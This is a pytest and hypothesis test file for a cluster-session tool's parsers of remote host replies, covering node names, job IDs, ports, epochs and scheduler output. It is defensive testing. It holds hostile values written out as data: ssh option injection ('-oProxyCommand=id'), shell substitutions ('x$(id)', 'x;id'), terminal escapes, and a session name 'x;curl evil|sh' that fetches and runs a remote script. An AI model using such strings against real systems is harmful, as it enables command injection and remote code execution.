"""What a host may send: each field's grammar, and numbers beyond all bounds wherever a host has a number."""

import json
import re
import shlex
import time
from collections.abc import Iterator, Mapping
from contextlib import suppress
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lnode.attach import announcements, expiry
from lnode.attach.announcements import Seen
from lnode.cluster import panes as cluster_panes
from lnode.cluster.sessions import picture_of
from lnode.commands.doctor import checks
from lnode.commands.doctor import facts as doctor_facts
from lnode.commands.ls import table
from lnode.commands.ls.document import document
from lnode.commands.ls.table import View
from lnode.commands.rescue import recipes
from lnode.commands.setup import livenode
from lnode.remote.fields import (
    LAST_EPOCH,
    Folder,
    HostKey,
    JobId,
    NodeName,
    PaneId,
    Port,
    SessionId,
    Word,
    epoch,
    number,
)
from lnode.runs.log_frames import Chunks, Torn
from lnode.runs.record import of_replies
from lnode.schedulers.slurm import WIDTHS
from lnode.ssh.arguments import Option

TEXTS = (NodeName, JobId, SessionId, PaneId, Word, Folder, HostKey)
# What a host would like to be read as something else: by a shell, by ssh, by a program's options, by a terminal.
HOSTILE = (
    "", "-", "-oProxyCommand=id", "--install-extension=evil", "x$(id)", "x`id`", "x;id", "x|id", "x&id", "x>f", "x\nid",
    "x id", "x'id'", 'x"id"', "x\\id", "%h", "{x}", "~", "x\x1b[2J", "x\x00", "x\u202e", "\u0663", "x\x85", " x", "x ",
    "x\n",
)  # fmt: skip


@pytest.mark.parametrize(
    ("kind", "good"),
    [
        (NodeName, ("login1", "login-2.site.edu", "LOGIN_3", "10.0.0.5", "a" * 253)),
        (
            JobId,
            ("123", "123_4", "123+1", "123.server", "123[4].server-1.site.edu", "123[].server", "123[4]", "9" * 12),
        ),
        (SessionId, ("$0", "$12", "$" + "9" * 10)),
        (PaneId, ("%0", "%12")),
        (Word, ("squeue", "xterm-256color", "screen.xterm+x")),
        (Folder, ("/", "/home/me", "/home/me/my folder", "/home/ä$(x)")),
        (HostKey, (f"ssh-ed25519 {'A' * 68}", f"ecdsa-sha2-nistp256 {'A' * 139}=", f"ssh-rsa {'A' * 543}=")),
    ],
)
def test_what_a_field_may_be(kind: type[NodeName], good: tuple[str, ...]) -> None:
    for text in good:
        assert kind.parse(text) == kind(text) == text
    for text in (
        *HOSTILE,
        *(f"{one}{bad}" for one in good for bad in ("\n", "\x00", "\x1b")),
        "9" * 5000,
        "/" + "x" * 5000,
    ):
        assert kind.parse(text) is None
        with pytest.raises(ValueError, match=f"no {kind.__name__}"):
            kind(text)


NAMES = st.text("abcXYZ019_", min_size=1, max_size=4)
SHELL = st.sampled_from("$`;|&<>()'\"\\ \n\t*?[]{}~#!%@:=^,/+")


@given(NAMES, SHELL, st.text(max_size=4))
def test_no_character_of_a_shell_or_an_option_is_in_the_name_of_a_node(before: str, sign: str, after: str) -> None:
    assert NodeName.parse(f"{before}{sign}{after}") is None
    assert NodeName.parse(f"-{before}") is None
    assert NodeName.parse(f".{before}") is None


@given(st.one_of(st.text(max_size=30), st.from_regex(r"[\w.$%\[\]/+-]{1,20}")))
def test_whatever_is_parsed_is_one_harmless_word(text: str) -> None:
    for kind in TEXTS:
        parsed = kind.parse(text)
        if parsed is None:
            continue
        assert parsed == text
        assert parsed.isprintable()
        assert not parsed.startswith("-")
        if isinstance(parsed, (NodeName, Word)):
            assert shlex.quote(parsed) == parsed
        assert shlex.split(shlex.quote(parsed)) == [parsed]


@given(st.integers(1, 12), st.integers(0, 99), st.sampled_from(["", "_", "+"]))
def test_a_job_of_slurm_keeps_its_parts(digits: int, part: int, sign: str) -> None:
    text = "4" * digits + (f"{sign}{part}" if sign else "")
    assert JobId.parse(text) == text


@given(st.one_of(st.integers(-(10**6), 10**6).map(str), st.text("0123456789+-_ .xe\u0663", max_size=8)))
@example("22")
@example("9" * 5000)
def test_a_port_is_a_port(text: str) -> None:
    port = Port.parse(text)
    is_port = re.fullmatch(r"[0-9]{1,18}", text) is not None and 1 <= int(text) <= 65535
    assert (port is not None) == is_port
    if port is not None:
        assert 1 <= port <= 65535


@pytest.mark.parametrize("value", [0, -1, 65536, 99999])
def test_no_port_is_made_of_another_number(value: int) -> None:
    with pytest.raises(ValueError, match="no port"):
        Port(value)


@given(
    st.one_of(
        st.integers(0, 10**20).map(str), st.text(max_size=6), st.sampled_from(["9" * 5000, "\u0663", "1_0", "+1"])
    )
)
def test_a_number_has_a_limit_and_is_never_an_error(text: str) -> None:
    found = number(text)
    if found is not None:
        assert text.isascii()
        assert found == int(text) < 10**12


@pytest.mark.parametrize("text", ["0", "1700000000", str(LAST_EPOCH)])
def test_seconds_that_are_a_date_on_every_clock(text: str) -> None:
    at = epoch(text)
    assert at is not None
    assert datetime.fromtimestamp(at + 86400, UTC)
    assert time.localtime(at)


@pytest.mark.parametrize("text", ["", "-1", "1e9", str(LAST_EPOCH + 1), "9" * 12, "9" * 5000])
def test_seconds_that_are_none(text: str) -> None:
    assert epoch(text) is None


def test_an_option_is_made_of_a_keyword_and_a_field() -> None:
    assert Option("HostName", NodeName("login1")) == "HostName=login1"
    assert Option("Port", Port(2222)) == "Port=2222"


# --- every number that a host has a say in

ID = "0" * 16
HOST = ("login1.site.edu", "1700000060", "22")
PANES = (
    "$0 1700000000 1700000000 1 900 %0 f* knode o1,1700000000,laptop,x e77 TIMEOUT 1700000050 w77 60 t77 work",
    "client $0 4711 /dev/pts/3",
)
SESSIONS = {
    "host": HOST,
    "panes": PANES,
    "marks": ("@lnode_run_x /dev/pts/3 4712 1700000000",),
    "processes": ("  900   1  900    01:10 bash", "  901 900  900 2-01:10:00 srun"),
    "origins": ("pid 901", "TMUX=/tmp/x,4710,0", "TMUX_PANE=%0"),
    "nodes": ("login2 2222 other",),
    "runs": (f"sim {ID} ended login1 12 1700000000 1700000010 3 77 work make",),
    "end": (),
}
_SLURM = ("77", "900", "0", "1700000005", "PENDING", "2-13:00:00", "1700000900", "login1", "c1", "Priority", "work")
_WIDTHS = list(WIDTHS.values())
SLURM = {"jobs": ("".join(value.ljust(width) for value, width in zip(_SLURM, _WIDTHS, strict=True)),)}
CLIENTS = {"clients": ("client  901  900  900    01:10 qsub -I",), "evidence": ("port 901 1F90", "number 901 77")}
PBS = {
    "scheduler": ("pbs",), **CLIENTS, "evidence": ("port 901 1F90", "number 901 77.server"),
    "jobs-of-clients": (
        "Job Id: 77.server", "    job_state = R", "    ctime = Tue Nov 14 22:13:20 2023", "    interactive = True",
        "    walltime.remaining = 3600", "    Resource_List.walltime = 01:00:00", "    exec_host = c1/0*16",
    ),
}  # fmt: skip
LSF = {"scheduler": ("lsf",), **CLIENTS, "jobs-of-clients": ("77|RUN|login1|Nov 14 22:13|71:59 L|4*c1:c2|work",)}
SGE = {
    "scheduler": ("sge",), **CLIENTS,
    "jobs-of-clients": (
        "<JB_job_number>77</JB_job_number>", "<state>r</state>", "<JAT_start_time>2023-11-14T22:13:20</JAT_start_time>",
        "<queue_name>all.q@c1</queue_name>", "job_number:    77", "submission_time:   Tue Nov 14 22:13:20 2023",
        "sge_o_host:    login1", "hard_resource_list:   h_rt=3600", "env_list:    QRSH_PORT=login1:8080,A=1",
    ),
}  # fmt: skip
OAR = {
    "scheduler": ("oar",), "clients": (*CLIENTS["clients"], "901 900 900 01:10 oarsub"),
    "evidence": (*CLIENTS["evidence"], "pane 901 %0"),
    "jobs-of-clients": (
        "Job_Id: 77", "    name = lnode%0", "    state = Running", "    assigned_hostnames = c1",
        "    wanted_resources = -l \"/resource_id=1,walltime=1:0:0\" ", "    jobType = INTERACTIVE",
        "    submissionTime = 2023-11-14 22:13:20", "    startTime = 2023-11-14 22:13:20", "    walltime = 1:0:0",
    ),
}  # fmt: skip
FACTS = (
    "now 1700000000", "max_sessions 1", "login_s 9", "tmout 60", "cpu_limit_s 60", "tmux_version tmux 1.8",
    "tmux_lost 9", "home_free_kb 1", "home_free_files 0",
)  # fmt: skip
PROCESS = ("uid 1000", "mine yes", "command eA==", "tty pts/3", "job 900", "others 1")
LOOK = {"pane": ("1700000000 $0 %0 12 34",), "look": ("|-3 12 0 0 no", "|x")}
NUMBERS = ("9" * 5000, "9" * 18, "9" * 12, "253402300799", "99999", "00", "-1", "\u0663", "x", "")

Rows = Mapping[str, tuple[str, ...]]


def twisted(reply: Rows) -> Iterator[Rows]:
    """The reply with each of its numbers in turn as no host would honestly have it, and with all at once."""
    for other in NUMBERS:
        yield {name: tuple(re.sub(r"\d+", other, row) for row in rows) for name, rows in reply.items()}
        for name, rows in reply.items():
            for at, row in enumerate(rows):
                for match in re.finditer(r"\d+", row):
                    row_ = f"{row[: match.start()]}{other}{row[match.end() :]}"
                    yield {**reply, name: (*rows[:at], row_, *rows[at + 1 :])}


def show(reply: Rows) -> None:
    """All that --ls and an attach make of a reply."""
    picture = picture_of(reply)
    view = View("unity", (picture,), 60, "", of_replies([reply]))
    table.table([view], all_columns=True, with_host=True)
    table.notes([view])
    json.dumps(document(view))
    for entry in picture.entries:
        announcements.truth(entry, "unity", picture)
        announcements.title(entry, picture)
        announcements.news(entry, Seen("77", waited=True))
        expiry.pause_s(entry, picture.now)


@pytest.mark.parametrize("jobs", [SLURM, PBS, LSF, SGE, OAR], ids=["slurm", "pbs", "lsf", "sge", "oar"])
def test_no_number_in_what_runs_there_is_an_error(jobs: Rows) -> None:
    assert picture_of({**SESSIONS, **jobs}).entries[0].job
    for reply in twisted({**SESSIONS, **jobs}):
        show(reply)


def test_no_number_in_other_answers_is_an_error() -> None:
    for reply in twisted({"facts": FACTS}):
        facts = doctor_facts.parse_facts(reply["facts"])
        checks.findings({"host": "unity", "asked": "1700000000", "answered": "1700000001", **facts})
        livenode.parse_version(reply["facts"][5])
    for reply in twisted({"facts": PROCESS}):
        process = recipes.parse(reply["facts"])
        if not isinstance(process, str):
            recipes.recipe(process, "unity")
    for reply in twisted(LOOK):
        cluster_panes.again(reply)
        cluster_panes.parse_look(reply)


@pytest.mark.parametrize("words", NUMBERS)
def test_no_number_in_a_frame_is_an_error(words: str) -> None:
    for frame in (f"data {words} 1", f"data 0 {words}", f"beat {words}"):
        with suppress(Torn):
            assert [one.kind for one in Chunks("n").feed(f"n {frame}\n".encode())] in ([], ["beat"])


# --- what a host says must not speak for the laptop, nor for another program


@pytest.mark.parametrize(
    "name", ["no_sockets", "state_readonly", "ssh_config_wrong", "remotecommand", "ssh", "asked", "host"]
)
def test_a_host_has_no_say_in_the_layers_of_the_laptop(name: str) -> None:
    assert doctor_facts.parse_facts([f"{name} /home/me/.ssh", "now 1700000000"]) == {"now": "1700000000"}


@pytest.mark.parametrize("word", ["-oProxyCommand=id", "x;id", "$(id)", "a b"])
def test_no_fix_holds_what_a_host_would_have_you_type(word: str) -> None:
    facts = doctor_facts.parse_facts([f"scheduler_silent {word}", f"term_unknown {word}"])
    assert checks.findings({"host": "unity", **facts}) == []


@pytest.mark.parametrize(("name", "word"), [("x;curl evil|sh", "x;curl evil|sh"), ("--forget", "SESSION")])
def test_no_name_of_a_session_is_more_than_a_word_of_the_command_beside_it(name: str, word: str) -> None:
    panes = (f"$0 1700000000 1700000000 0 900 %0 f* knode o e77 TIMEOUT 1700000050 w t {name}",)
    picture = picture_of({"host": HOST, "panes": panes, "jobs": (), "end": ()})
    said = announcements.truth(picture.entries[0], "unity", picture)
    assert shlex.split(said.rpartition(": ")[2]) == ["lnode", "unity", word, "--renew"]
    process = recipes.parse(["uid 1", "mine yes", f"session {name}"])
    assert not isinstance(process, str)
    assert shlex.split(recipes.why_safe(process, "unity").rpartition(": ")[2]) == ["lnode", "unity", word]


def test_whose_session_it_is_stays_open_where_the_node_has_no_name() -> None:
    reply = {**SESSIONS, **SLURM, "host": ("x$(id)", *HOST[1:])}
    picture = picture_of(reply)
    assert (picture.address, picture.login_node) == (None, "?")
    assert picture.entries[0].state == "unknown"
